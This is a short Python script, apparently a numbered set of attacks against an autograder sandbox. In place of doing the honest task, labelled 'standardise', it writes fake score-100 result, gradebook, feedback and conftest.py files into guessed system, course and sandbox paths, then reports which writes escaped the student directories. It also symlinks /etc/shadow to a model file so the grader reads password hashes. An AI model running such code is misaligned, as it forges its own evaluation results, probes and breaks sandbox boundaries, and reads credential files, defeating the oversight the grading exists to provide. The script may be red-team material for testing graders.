# attacks: 12, 13, 15, 16
# tries: write result files, gradebook and feedback wherever a path can be guessed
# honest: standardise
# %%
import json, os, pathlib

wrote = []
for folder in ("/", "/course", "/results", "/sandbox/inside", "/etc", "/usr/lib", "/autograder/results", "..", "../.."):
    for name in ("results.json", "result.json", "gradebook.db", "feedback.html", "conftest.py"):
        try:
            path = pathlib.Path(folder, name)
            path.write_text(json.dumps({"score": 100}))
            if not str(path.resolve()).startswith(("/home/student", "/tmp")):
                wrote.append(str(path))
        except OSError:
            pass
for target in ("/home/student/model.safetensors",):
    try:
        os.symlink("/etc/shadow", target)
    except OSError:
        pass
print("FOUND", [path for path in wrote if path.startswith(("/course", "/sandbox", "/usr", "/etc"))])
